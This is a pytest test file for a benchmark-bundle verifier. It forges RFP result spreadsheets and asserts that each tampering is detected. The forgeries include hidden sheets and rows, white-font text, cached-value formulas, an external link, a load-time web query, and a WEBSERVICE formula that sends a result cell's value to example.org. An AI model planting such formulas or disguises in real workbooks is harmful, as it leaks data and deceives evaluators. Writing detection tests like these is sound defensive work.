"""Forged workbooks in a real smoke campaign's bundle: verify compares gp2bm's workbook and
the filled RFP workbook cell by cell and part by part with what it fills again from the
bundled logs (workbookshape), so that no forgery a spreadsheet program would show survives
with a recomputed SHA256SUMS: a formula whose cached value is the real number, a number
format showing another number, a formula in an empty cell, a hidden sheet, a defined name,
an external link, a comment."""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from test_report_campaign import RFP_WORKBOOK, copy_campaign, smoke_campaign
from test_verify import _pack, _resum, _unpack

from gp2bm.evaluation.workbookshape import shape_of

pytestmark = pytest.mark.slow

RFP = "reports/Benchmark_Results.xlsx"
OWN = "reports/results.xlsx"
BERT_CELL = "MLPerf!C8"  # the form's "BERT Benchmark (seconds)" Test cell


@pytest.fixture(scope="module")
def handin(tmp_path_factory) -> tuple[Path, Path]:
    """A bundle of a real smoke campaign with the RFP workbook filled, and the suite file
    the evaluator holds it to (the smoke suite's own rules: RCP off)."""
    if not RFP_WORKBOOK.is_file():
        pytest.skip(f"the RFP workbook is not available: {RFP_WORKBOOK} is absent")
    base = tmp_path_factory.mktemp("forgery")
    root = copy_campaign(smoke_campaign(tmp_path_factory), base / "campaign")
    changes = base / "changes.txt"
    changes.write_text("No source changes.\n")
    bundle = base / "handin.tar.gz"
    args = ["package", str(root), "-o", str(bundle), "--template", str(RFP_WORKBOOK)]
    args += ["--changes", str(changes), "--proposed", "nodes=4", "--test", "mpi=N/A",
             "--test", "omp_threads=1"]
    proc = subprocess.run(
        [sys.executable, "-m", "gp2bm", *args],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    rules = _unpack(bundle, base / "rules") / "manifests" / "suite.yaml"
    return bundle, rules


def _verify(cli, top: Path, rules: Path, out: Path) -> list[str]:
    res = cli("verify", _pack(top, out), "--suite", rules, "--json")
    assert res.code == 1, res.out + res.err
    return res.json()["differences"]


def _sheet_part(zf: zipfile.ZipFile, title: str) -> str:
    """The zip part holding the sheet named ``title``."""
    book = zf.read("xl/workbook.xml").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="(\w+)"', book).group(1)
    rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels)
    if target is None:
        target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    return "xl/" + target.group(1).removeprefix("/xl/")


def _rewrite_zip(path: Path, edit) -> None:
    """Rewrite the workbook at ``path`` with ``edit(parts)`` applied to its parts (a dict
    name -> bytes, in order), as a forger with a zip tool would."""
    with zipfile.ZipFile(path) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
        edit(zf, parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)


def _formula_with_cached_value(path: Path, where: str, formula: str) -> float:
    """The cell ``where`` (Sheet!A1) made a formula whose cached value is the cell's own
    number; returns that number."""
    title, coord = where.split("!")
    kept = {}

    def edit(zf, parts):
        part = _sheet_part(zf, title)
        xml = parts[part].decode()
        m = re.search(rf'<c r="{coord}"([^>]*?)(?:/>|>(.*?)</c>)', xml)
        value = re.search(r"<v>([^<]*)</v>", m.group(2)).group(1)
        kept["value"] = float(value)
        style = re.search(r'\bs="\d+"', m.group(1))
        attrs = f" {style.group(0)}" if style else ""
        forged = f'<c r="{coord}"{attrs}><f>{formula}</f><v>{value}</v></c>'
        parts[part] = (xml[: m.start()] + forged + xml[m.end() :]).encode()

    _rewrite_zip(path, edit)
    return kept["value"]


def _external_link(path: Path) -> None:
    """An external link part, related from the workbook as Excel writes one."""
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames>'
        "</externalBook></externalLink>"
    )
    rel = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLinkPath" Target="http://example.org/x.xlsx" '
        'TargetMode="External"/></Relationships>'
    )

    def edit(zf, parts):
        parts["xl/externalLinks/externalLink1.xml"] = link.encode()
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = rel.encode()
        rels = (
            parts["xl/_rels/workbook.xml.rels"]
            .decode()
            .replace(
                "</Relationships>",
                '<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                "</Relationships>",
            )
        )
        parts["xl/_rels/workbook.xml.rels"] = rels.encode()

    _rewrite_zip(path, edit)


def _score_cell(path: Path) -> str:
    ws = load_workbook(path)["Summary"]
    row = next(r for r in ws.iter_rows(min_col=1, max_col=1) if r[0].value == "score")
    return f"Summary!B{row[0].row}"


def _forge(top: Path, rel: str, change) -> None:
    wb = load_workbook(top / rel)
    change(wb)
    wb.save(top / rel)
    _resum(top, rel)


@pytest.mark.reliability("workbook-cell-by-cell")
def test_the_untouched_bundle_verifies(cli, handin):
    bundle, rules = handin
    res = cli("verify", bundle, "--suite", rules, "--json")
    assert res.code == 0, res.out + res.err
    data = res.json()
    assert data["ok"] and data["differences"] == [], data["differences"]
    unverifiable = "\n".join(data["unverifiable"])
    assert f"{RFP}: the vendor's own answers" in unverifiable
    assert "reports/template/Benchmark_Results.xlsx: the RFP's own workbook? (sha256" in (
        unverifiable
    )


@pytest.mark.reliability("workbook-cell-by-cell")
def test_what_gp2bm_writes_is_plain_values_in_the_templates_formats(handin, tmp_path):
    top = _unpack(handin[0], tmp_path)
    template = shape_of(str(RFP_WORKBOOK))
    for rel in (RFP, OWN):
        cells = shape_of(str(top / rel)).cells
        assert [w for w, (kind, _, _) in cells.items() if kind == "f"] == [], rel
    filled = shape_of(str(top / RFP)).cells
    for coord in ("C7", "C8", "C9", "D7", "C16"):
        kind, value, number_format = filled[f"MLPerf!{coord}"]
        assert value is not None and kind in ("n", "s"), coord
        assert number_format == template.cells.get(f"MLPerf!{coord}", ("", None, "General"))[2]


@pytest.mark.reliability("workbook-cell-by-cell")
@pytest.mark.parametrize("rel", [RFP, OWN])
def test_a_result_cell_made_a_formula_with_the_real_cached_value_is_found(
    cli, handin, tmp_path, rel
):
    bundle, rules = handin
    top = _unpack(bundle, tmp_path)
    where = BERT_CELL if rel == RFP else _score_cell(top / rel)
    real = _formula_with_cached_value(top / rel, where, "ROUND(1.1*0+1,0)")
    check = load_workbook(top / rel, data_only=True)
    sheet, coord = where.split("!")
    assert check[sheet][coord].value == real  # the cached value is the real number
    _resum(top, rel)
    found = _verify(cli, top, rules, tmp_path / "t.tar.gz")
    assert any(
        d.startswith(f"{rel}: {where}") and "claimed formula '=ROUND(1.1*0+1,0)'" in d
        for d in found
    ), found


@pytest.mark.reliability("workbook-cell-by-cell")
@pytest.mark.parametrize("rel", [RFP, OWN])
def test_a_literal_text_number_format_on_a_result_cell_is_found(cli, handin, tmp_path, rel):
    bundle, rules = handin
    top = _unpack(bundle, tmp_path)
    where = BERT_CELL if rel == RFP else _score_cell(top / rel)
    sheet, coord = where.split("!")

    def change(wb):
        wb[sheet][coord].number_format = '"12.5"'

    _forge(top, rel, change)
    found = _verify(cli, top, rules, tmp_path / "t.tar.gz")
    assert any(
        d.startswith(f"{rel}: {where}") and "number format '\"12.5\"'" in d for d in found
    ), found


@pytest.mark.reliability("workbook-cell-by-cell")
@pytest.mark.parametrize(
    "rel, formula",
    [
        (RFP, '=WEBSERVICE("http://example.org/?"&C8)'),
        (RFP, '=HYPERLINK("http://example.org/","results")'),
        (OWN, '=WEBSERVICE("http://example.org/")'),
    ],
)
def test_a_formula_in_an_empty_cell_is_found(cli, handin, tmp_path, rel, formula):
    bundle, rules = handin
    top = _unpack(bundle, tmp_path)
    sheet = "MLPerf" if rel == RFP else "Summary"

    def change(wb):
        wb[sheet]["K60"] = formula

    _forge(top, rel, change)
    found = _verify(cli, top, rules, tmp_path / "t.tar.gz")
    assert any(
        d.startswith(f"{rel}: {sheet}!K60: claimed formula") and "recomputed nothing" in d
        for d in found
    ), found


def _hidden_sheet(wb):
    wb.create_sheet("Notes").sheet_state = "veryHidden"


def _defined_name(wb):
    wb.defined_names["Result"] = DefinedName("Result", attr_text="MLPerf!$C$8")


def _comment(wb):
    wb["MLPerf"]["E8"].comment = Comment("the real result is 10 % better", "vendor")


def _validation(wb):
    dv = DataValidation(type="list", formula1='"1,2,3"')
    dv.add("C7")
    wb["MLPerf"].add_data_validation(dv)


def _hidden_row(wb):
    wb["MLPerf"].row_dimensions[9].hidden = True


def _hyperlink(wb):
    wb["MLPerf"]["B2"].hyperlink = "http://example.org/"


def _white_font(wb):
    """The BERT result written white on white: a reader sees an empty cell."""
    cell = wb["MLPerf"]["C8"]
    cell.font = Font(name=cell.font.name, sz=cell.font.sz, color="FFFFFFFF")


def _narrow_column(wb):
    wb["MLPerf"].column_dimensions["C"].width = 0.1  # the Test column all but gone


def _quote_prefix(wb):
    wb["MLPerf"]["C9"].quotePrefix = True


def _print_area(wb):
    wb["MLPerf"].print_area = "A1:B30"  # the printed form without its results


@pytest.mark.reliability("workbook-cell-by-cell")
@pytest.mark.parametrize(
    "change, finding",
    [
        (_hidden_sheet, "sheet Notes: claimed 'veryHidden', recomputed nothing"),
        (_defined_name, "defined name Result: claimed 'MLPerf!$C$8', recomputed nothing"),
        (_comment, "MLPerf!E8 comment: claimed 'vendor: the real result is 10 % better'"),
        (_validation, "MLPerf data validation 1: claimed 'C7: list"),
        (_hidden_row, "MLPerf!row 9: claimed 'hidden', recomputed nothing"),
        (_hyperlink, "MLPerf!B2 hyperlink: claimed 'http://example.org/#'"),
        (_white_font, "MLPerf!C8 look: claimed 'font Calibri 12.0 FFFFFFFF"),
        (_narrow_column, "MLPerf!column C width: claimed '0.1'"),
        (_quote_prefix, "MLPerf!C9 look: claimed '...ign; quote True"),
        (_print_area, "MLPerf print area: claimed \"'MLPerf'!$A$1:$B$30\", recomputed nothing"),
    ],
    ids=["hidden-sheet", "defined-name", "comment", "validation", "hidden-row", "hyperlink",
         "white-font", "narrow-column", "quote-prefix", "print-area"],  # fmt: skip
)
def test_a_workbook_part_added_is_found(cli, handin, tmp_path, change, finding):
    bundle, rules = handin
    top = _unpack(bundle, tmp_path)
    _forge(top, RFP, change)
    found = _verify(cli, top, rules, tmp_path / "t.tar.gz")
    assert any(d.startswith(f"{RFP}: {finding}") for d in found), found


@pytest.mark.reliability("workbook-cell-by-cell")
@pytest.mark.parametrize("rel", [RFP, OWN])
def test_an_external_link_part_is_found(cli, handin, tmp_path, rel):
    bundle, rules = handin
    top = _unpack(bundle, tmp_path)
    _external_link(top / rel)
    _resum(top, rel)
    found = _verify(cli, top, rules, tmp_path / "t.tar.gz")
    assert any(
        d.startswith(f"{rel}: part xl/externalLinks/externalLink1.xml: claimed") for d in found
    ), found


CONNECTION = (
    '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<connection id="1" name="q" type="4" refreshOnLoad="1">'
    '<webPr url="http://example.org/result"/></connection></connections>'
)


@pytest.mark.reliability("workbook-cell-by-cell")
def test_a_data_connection_refreshed_on_load_is_found(cli, handin, tmp_path):
    """A part gp2bm never writes (here a web query Excel refreshes on open) is a finding."""
    bundle, rules = handin
    top = _unpack(bundle, tmp_path)

    def edit(zf, parts):
        parts["xl/connections.xml"] = CONNECTION.encode()

    _rewrite_zip(top / RFP, edit)
    _resum(top, RFP)
    found = _verify(cli, top, rules, tmp_path / "t.tar.gz")
    expected = f"{RFP}: part xl/connections.xml: claimed 'present', recomputed nothing"
    assert expected in found, found


@pytest.mark.reliability("workbook-cell-by-cell")
def test_a_bundle_without_the_template_of_its_rfp_workbook_is_a_finding(cli, handin, tmp_path):
    """The template travels beside the filled workbook (verify fills it again, and names its
    digest for the evaluator to compare with the RFP's own file): without it, no verdict."""
    bundle, rules = handin
    top = _unpack(bundle, tmp_path)
    kept = "reports/template/Benchmark_Results.xlsx"
    (top / kept).unlink()
    sums = (top / "SHA256SUMS").read_text().splitlines()
    (top / "SHA256SUMS").write_text("\n".join(s for s in sums if not s.endswith(kept)) + "\n")
    found = _verify(cli, top, rules, tmp_path / "t.tar.gz")
    assert f"{RFP}: the template it was filled from ({kept}) is not in the bundle" in (
        "\n".join(found)
    ), found


KEPT = "reports/template/Benchmark_Results.xlsx"


@pytest.mark.reliability("workbook-cell-by-cell")
def test_the_rfps_own_workbook_given_answers_whether_the_template_is_it(cli, handin, tmp_path):
    """verify --template: the bundled template is the evaluator's copy of the RFP's
    workbook, byte for byte, so the question the verdict leaves open without it is gone."""
    bundle, rules = handin
    res = cli("verify", bundle, "--suite", rules, "--template", RFP_WORKBOOK, "--json")
    assert res.code == 0, res.out + res.err
    data = res.json()
    assert data["checked"]["rfp_template"] == (
        f"{KEPT}: the workbook given (--template), byte for byte"
    )
    assert not [u for u in data["unverifiable"] if "the RFP's own workbook?" in u]
    missing = cli("verify", bundle, "--suite", rules, "--template", tmp_path / "none.xlsx")
    assert missing.code == 2 and "none.xlsx: file not found" in missing.err
    assert len(missing.err.strip().splitlines()) == 1


@pytest.mark.reliability("workbook-cell-by-cell")
def test_a_template_forged_with_its_workbook_is_found_against_the_rfps_own(
    cli, handin, tmp_path
):
    """A forger who changes the bundled template and the filled workbook alike (a line of
    another tab, here) makes them agree with each other: verify fills the forged template
    again and finds the forged workbook. Held to the RFP's own workbook, the template is
    found, cell by cell."""
    bundle, rules = handin
    top = _unpack(bundle, tmp_path / "x")
    for rel in (KEPT, RFP):
        wb = load_workbook(top / rel)
        wb["HPL"]["A1"] = "Forged"
        wb.save(top / rel)
        _resum(top, rel)
    alike = cli("verify", _pack(top, tmp_path / "alike.tar.gz"), "--suite", rules, "--json")
    assert alike.code == 0, alike.out  # the two agree: only the RFP's own file can tell
    res = cli("verify", tmp_path / "alike.tar.gz", "--suite", rules, "--template", RFP_WORKBOOK,
              "--json")  # fmt: skip
    assert res.code == 1, res.out + res.err
    found = [d for d in res.json()["differences"] if d.startswith(f"{KEPT} against --template")]
    assert found and "HPL!A1" in found[0] and "'Forged'" in found[0], res.json()["differences"]


@pytest.mark.reliability("workbook-cell-by-cell")
def test_the_rfps_workbook_saved_again_is_the_same_cell_for_cell(cli, handin, tmp_path):
    """The evaluator's copy, opened and saved again (other zip bytes, the same cells and
    parts), still holds the bundled template to it."""
    bundle, rules = handin
    again = tmp_path / "Benchmark_Results.xlsx"
    load_workbook(RFP_WORKBOOK).save(again)
    assert again.read_bytes() != RFP_WORKBOOK.read_bytes()
    res = cli("verify", bundle, "--suite", rules, "--template", again, "--json")
    assert res.code == 0, res.json()["differences"]
    assert "cell for cell" in res.json()["checked"]["rfp_template"]
